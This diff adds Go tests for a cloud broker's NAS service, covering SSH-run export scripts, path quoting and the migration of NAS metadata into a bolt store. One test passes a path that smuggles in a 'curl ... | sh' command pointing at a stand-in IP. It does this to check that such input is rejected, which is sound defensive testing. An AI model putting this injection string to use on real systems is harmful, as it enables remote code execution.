@@ -0,0 +1,133 @@
+package broker
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/SebastienDorgan/gpac/providers"
+	"github.com/SebastienDorgan/gpac/providers/api"
+	"github.com/SebastienDorgan/gpac/providers/api/IPVersion"
+	"github.com/SebastienDorgan/gpac/providers/openstack/fake"
+)
+
+func TestNasScripts(t *testing.T) {
+	clt := newMemoryVM(t)
+	nas := NewNasService(clt).(*NasService)
+	ssh := &recordingSSH{}
+	nas.ssh = ssh
+
+	_, err := nas.Create("nas1", "vm1", `/x"; curl http://198.51.100.1 | sh; "`)
+	if api.KindOf(err) != api.ErrInvalidRequest || len(ssh.scripts) != 0 {
+		t.Fatalf("expected an invalid request error, got %v (%v)", err, ssh.scripts)
+	}
+	_, err = nas.Create("nas1", "vm1", "/srv/it's.data")
+	if err != nil {
+		t.Fatal(err)
+	}
+	line := `printf '%s\n' '/srv/it'"'"'s.data *(rw,sync,no_root_squash,no_subtree_check)' | sudo tee -a /etc/exports >/dev/null`
+	if len(ssh.scripts) != 1 || !strings.Contains(ssh.scripts[0], line) {
+		t.Fatalf("expected the export to be written with %s, got %v", line, ssh.scripts)
+	}
+	err = nas.Mount("nas1", "vm1", "/mnt/nas 1")
+	if api.KindOf(err) != api.ErrInvalidRequest {
+		t.Fatalf("expected an invalid request error, got %v", err)
+	}
+
+	err = nas.Delete("nas1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	//the path is matched literally
+	line = `sudo sed -i '\#^/srv/it'"'"'s\.data #d' /etc/exports`
+	if len(ssh.scripts) != 2 || !strings.Contains(ssh.scripts[1], line) {
+		t.Fatalf("expected the export to be removed with %s, got %v", line, ssh.scripts)
+	}
+}
+
+func TestNasMetadataStore(t *testing.T) {
+	srv := fake.NewServer(fake.Options{})
+	defer srv.Close()
+	unlock(t, "passphrase", "")
+	tenants := NewTenantService(t.TempDir())
+	addOpenStackTenant(t, tenants, "os1", srv, providers.MetadataOptions{Type: providers.MetadataBolt})
+	clt, err := tenants.Client("os1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = NewNetworkService(clt).Create("net1", "192.168.1.0/24", IPVersion.IPv4, 1, 2, 10, "Ubuntu 16.04")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = NewVMService(clt).Create("vm1", "net1", 1, 2, 10, "Ubuntu 16.04", false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	//NAS defined in the object storage by a previous version
+	err = clt.CreateContainer(NasContainer)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = clt.PutObject(NasContainer, api.Object{
+		Name:    "nas0",
+		Content: strings.NewReader(`{"name":"nas0","server_id":"vm0","path":"/shared/nas0"}`),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	nas := NewNasService(clt).(*NasService)
+	nas.ssh = &recordingSSH{}
+	_, err = nas.Create("nas1", "vm1", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = nas.Create("nas1", "vm1", "")
+	if !errors.Is(err, api.ErrAlreadyExists) {
+		t.Fatalf("expected an already exists error, got %v", err)
+	}
+	list, err := nas.List()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(list) != 2 || list[0].Name != "nas0" || list[1].Name != "nas1" {
+		t.Fatalf("expected nas0 and nas1, got %+v", list)
+	}
+	//the definitions are in the bolt database of the tenant
+	store := providers.NewBoltMetadataStore(tenants.(*TenantService).metadataFile("os1"))
+	keys, err := store.List(NasContainer, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(keys) != 2 {
+		t.Fatalf("expected nas0 and nas1 in the metadata store, got %v", keys)
+	}
+	objects, err := clt.ListObjects(NasContainer, api.ObjectFilter{})
+	if err != nil || len(objects) != 0 {
+		t.Fatalf("expected nas0 to be moved from the object storage, got %v (%v)", objects, err)
+	}
+
+	err = nas.Mount("nas1", "vm1", "/mnt/nas1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	mounted, err := nas.Inspect("nas1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(mounted.Clients) != 1 {
+		t.Fatalf("expected nas1 to be mounted on vm1, got %+v", mounted)
+	}
+	err = nas.Umount("nas1", "vm1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = nas.Delete("nas1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = nas.Inspect("nas1")
+	if !errors.Is(err, api.ErrNotFound) {
+		t.Fatalf("expected a not found error, got %v", err)
+	}
+}